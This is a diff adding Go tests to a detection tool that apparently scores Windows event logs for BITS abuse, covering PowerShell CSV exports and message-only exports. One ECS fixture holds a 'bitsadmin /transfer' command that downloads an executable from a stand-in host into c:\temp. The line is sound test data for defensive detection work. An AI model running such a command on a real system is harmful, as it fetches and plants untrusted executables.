@@ -12,6 +12,8 @@ import (
 	"time"
 
 	"github.com/google/go-cmp/cmp"
+
+	"bitsscore/src/winevent"
 )
 
 // The tools' export shapes below are written, in the test, from the real
@@ -272,6 +274,116 @@ func checkShapes(t *testing.T, want []string, shapes map[string][]byte) {
 			}
 			if diff := cmp.Diff(want, got); diff != "" {
 				t.Errorf("scored events differ from the recordings one event per line (-want +got):\n%s\nstderr:\n%s", diff, stderr)
+			}
+		})
+	}
+}
+
+// psCSV writes rows as Windows PowerShell's Export-Csv does: a "#TYPE"
+// line, then every field quoted, CRLF line ends.
+func psCSV(typeName string, columns []string, rows [][]string) []byte {
+	quoteAll := func(cells []string) string {
+		q := make([]string, len(cells))
+		for i, c := range cells {
+			q[i] = `"` + strings.ReplaceAll(c, `"`, `""`) + `"`
+		}
+		return strings.Join(q, ",") + "\r\n"
+	}
+	out := "#TYPE " + typeName + "\r\n" + quoteAll(columns)
+	for _, r := range rows {
+		out += quoteAll(r)
+	}
+	return []byte(out)
+}
+
+func TestExportCsvTypeLineIsSkipped(t *testing.T) {
+	lines := fixtureFileLines(t, jsonFixture)
+	want, _, _ := scoreInput(t, joinLines(lines, "\n"))
+	columns := []string{"_time", "host", "EventCode", "Image", "CommandLine", "ParentImage", "User"}
+	var rows [][]string
+	for _, line := range lines {
+		e, err := winevent.Parse(line)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var row []string
+		for _, c := range columns {
+			row = append(row, e.Get(c))
+		}
+		rows = append(rows, row)
+	}
+	input := psCSV("System.Management.Automation.PSCustomObject", columns, rows)
+	got, status, stderr := scoreInput(t, utf16LE(input, false))
+	if status != ExitAlert || len(got) != len(want) {
+		t.Fatalf("status %d, %d events of %d; stderr:\n%s", status, len(got), len(want), stderr)
+	}
+	if !strings.Contains(strings.Join(got, "\n"), "alert=true") {
+		t.Errorf("no alert from the Sysmon 1 columns:\n%s", strings.Join(got, "\n"))
+	}
+}
+
+// Exports that keep only the rendered message of each event cannot be
+// scored soundly: score says what they are and how to export instead, and
+// exits 2.
+func TestMessageOnlyExportsAreNamed(t *testing.T) {
+	lines := fixtureFileLines(t, jsonFixture)
+	var events []winevent.Event
+	for _, line := range lines {
+		e, err := winevent.Parse(line)
+		if err != nil {
+			t.Fatal(err)
+		}
+		events = append(events, e)
+	}
+	psColumns := []string{"Message", "Id", "Version", "Qualifiers", "Level", "Task", "Opcode", "Keywords", "RecordId", "ProviderName",
+		"ProviderId", "LogName", "ProcessId", "ThreadId", "MachineName", "UserId", "TimeCreated", "ActivityId", "RelatedActivityId",
+		"ContainerLog", "MatchedQueryIds", "Bookmark", "LevelDisplayName", "OpcodeDisplayName", "TaskDisplayName", "KeywordsDisplayNames", "Properties"}
+	var psRows [][]string
+	var psJSON []string
+	var viewer strings.Builder
+	viewer.WriteString("Level,Date and Time,Source,Event ID,Task Category\r\n")
+	for _, e := range events {
+		row := make([]string, len(psColumns))
+		for i, c := range psColumns {
+			switch c {
+			case "Message":
+				row[i] = e.Get("Message")
+			case "Id":
+				row[i] = e.Get("EventID")
+			case "ProviderName":
+				row[i] = e.Get("SourceName")
+			case "LogName":
+				row[i] = e.Get("Channel")
+			case "MachineName":
+				row[i] = e.Get("Hostname")
+			case "TimeCreated":
+				row[i] = "10/23/2020 2:36:43 AM"
+			case "Properties":
+				row[i] = "System.Collections.Generic.List`1[System.Diagnostics.Eventing.Reader.EventProperty]"
+			}
+		}
+		psRows = append(psRows, row)
+		psJSON = append(psJSON, fmt.Sprintf(`{"Message":%s,"Id":%s,"ProviderName":%s,"LogName":%s,"MachineName":%s,"TimeCreated":"\/Date(1603420603128)\/","Properties":[{"Value":%s}]}`,
+			quote(e.Get("Message")), e.Get("EventID"), quote(e.Get("SourceName")), quote(e.Get("Channel")), quote(e.Get("Hostname")), quote(e.Get("CommandLine"))))
+		fmt.Fprintf(&viewer, "Information,10/23/2020 2:36:43 AM,%s,%s,None,%s\r\n", e.Get("SourceName"), e.Get("EventID"), `"`+strings.ReplaceAll(e.Get("Message"), `"`, `""`)+`"`)
+	}
+	for name, tc := range map[string]struct {
+		input []byte
+		hint  string
+	}{
+		"Get-WinEvent | Export-Csv":     {psCSV("System.Diagnostics.Eventing.Reader.EventLogRecord", psColumns, psRows), "Get-WinEvent export"},
+		"Get-WinEvent | ConvertTo-Json": {[]byte("[\r\n" + strings.Join(psJSON, ",\r\n") + "\r\n]"), "Get-WinEvent export"},
+		"Event Viewer, Save as CSV":     {[]byte(viewer.String()), `Event Viewer "Save as CSV/Text"`},
+		"Event Viewer, Save as Text":    {[]byte(strings.ReplaceAll(viewer.String(), ",", "\t")), `Event Viewer "Save as CSV/Text"`},
+		"ECS process events, no winlog": {[]byte(`{"@timestamp":"2020-10-23T02:36:43Z","event":{"category":["process"]},"process":{"command_line":"bitsadmin /transfer j http://x/a.exe c:\\temp\\a.exe"}}`), "not a Windows event log record"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			got, status, stderr := scoreInput(t, tc.input)
+			if status != ExitUsage || !strings.Contains(stderr, "no event has any field the detection reads") || !strings.Contains(stderr, tc.hint) {
+				t.Errorf("status %d, want 2 and the hint %q; stderr:\n%s", status, tc.hint, stderr)
+			}
+			if strings.Contains(strings.Join(got, "\n"), "alert=true") {
+				t.Errorf("an event alerts: %v", got)
 			}
 		})
 	}
